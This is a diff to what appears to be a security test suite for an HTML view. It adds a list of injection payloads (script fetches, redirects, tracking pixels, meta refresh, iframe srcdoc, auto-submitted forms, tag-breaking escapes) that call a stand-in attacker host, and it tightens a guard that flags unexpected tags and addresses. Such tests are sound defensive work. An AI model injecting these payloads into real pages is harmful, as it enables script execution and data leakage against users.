@@ -67,6 +67,33 @@ BREAKERS = [
     "__proto__",
     "constructor",
 ]
+THERE = "https://attacker.invalid"
+REACHING = [  # html that would run something, fetch something or lead a page away
+    f"<script>parent.hacked = top.hacked = 1; fetch('{THERE}/fetched')</script>",
+    f"<script>location = '{THERE}/led'; top.location = '{THERE}/led/away'</script>",
+    f"<img src='{THERE}/pixel'><img srcset='{THERE}/pixel2 1x'>",
+    f"<link rel=stylesheet href='{THERE}/style.css'><link rel=prefetch href='{THERE}/later'>",
+    f"<link rel=icon href='{THERE}/icon'><link rel=manifest href='{THERE}/manifest'>",
+    f"<style>@import '{THERE}/x.css'; body {{ background: url({THERE}/ground) }}</style>",
+    f"<style>@font-face {{font-family: f; src: url({THERE}/font)}} * {{font-family: f}}</style>f",
+    f"<meta http-equiv=refresh content='0;url={THERE}/refreshed'>",
+    f"<meta http-equiv=Content-Security-Policy content='default-src *'><img src={THERE}/policy>",
+    f"<base href='{THERE}/'><img src=pixel><iframe src=frame></iframe>",
+    f"<iframe src='{THERE}/frame'></iframe><object data='{THERE}/object'></object>",
+    f"<iframe srcdoc=\"<script>top.hacked = 1; fetch('{THERE}/inner')</script>\"></iframe>",
+    f"<embed src='{THERE}/embed'><video poster='{THERE}/poster' src='{THERE}/video'></video>",
+    f"<audio src='{THERE}/audio' autoplay></audio><track src='{THERE}/track'>",
+    f"<svg><image href='{THERE}/image'/><use href='{THERE}/use#x'/></svg>",
+    f"<form action='{THERE}/form'><button autofocus></form><script>forms[0].submit()</script>",
+    f"<input type=image src='{THERE}/input'><body background='{THERE}/body'>",
+    f"</iframe><script>parent.hacked = 1</script><img src='{THERE}/out'>",
+    f"\"></iframe><img src='{THERE}/quoted' onerror='top.hacked = 1'>",
+    f"&quot;></iframe><img src='{THERE}/entity'>",
+    f"</style></head><img src='{THERE}/style'><!--",
+    f"<portal src='{THERE}/portal'></portal><frameset><frame src='{THERE}/frame'></frameset>",
+    f"<template shadowrootmode=open><img src='{THERE}/shadow'></template>",
+    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{THERE}/s"]}}]}}</script>',
+]
 DISGUISES = [
     f"\x1b]8;;javascript:{RUN}\x1b\\link\x1b]8;;\x1b\\",
     f"\x1b]0;<img src=x onerror={RUN}>\x07",
@@ -102,14 +129,20 @@ class Elements(html.parser.HTMLParser):
 # Watches every view for what it never makes itself: tags, attributes, addresses.
 GUARD = """() => {
   window.made = [];
+  const PICTURE = new RegExp("^data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]*=?=?$" +
+    "|^data:image/svg[+]xml;charset=utf-8,[a-zA-Z0-9_%.!~*'()-]*$");
+  const POLICY = `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; ` +
+    `img-src data:; style-src 'unsafe-inline'; font-src data:">`;
   const tags = new Set(`div span b button svg path p dl dt dd input label section table thead tbody
-    tr th td pre img h3 i`.split(/\\s+/));
+    tr th td pre img h3 h4 i iframe canvas`.split(/\\s+/));
   const check = (node) => {
     if (!(node instanceof Element)) return;
     if (!tags.has(node.localName)) made.push(node.outerHTML.slice(0, 200));
     for (const { name, value } of node.attributes) {
       const address = ["src", "href", "srcdoc", "action", "data", "xlink:href"].includes(name);
-      const ours = node.localName === "img" && value.startsWith("data:image/png;base64,");
+      const ours = (node.localName === "img" && name === "src" && PICTURE.test(value)) ||
+        (node.localName === "iframe" && name === "srcdoc" && value.startsWith(POLICY) &&
+          node.getAttribute("sandbox") === "" && !node.hasAttribute("src"));
       if (name.startsWith("on") || (address && !ours)) made.push(`${name}=${value}`.slice(0, 200));
     }
   };
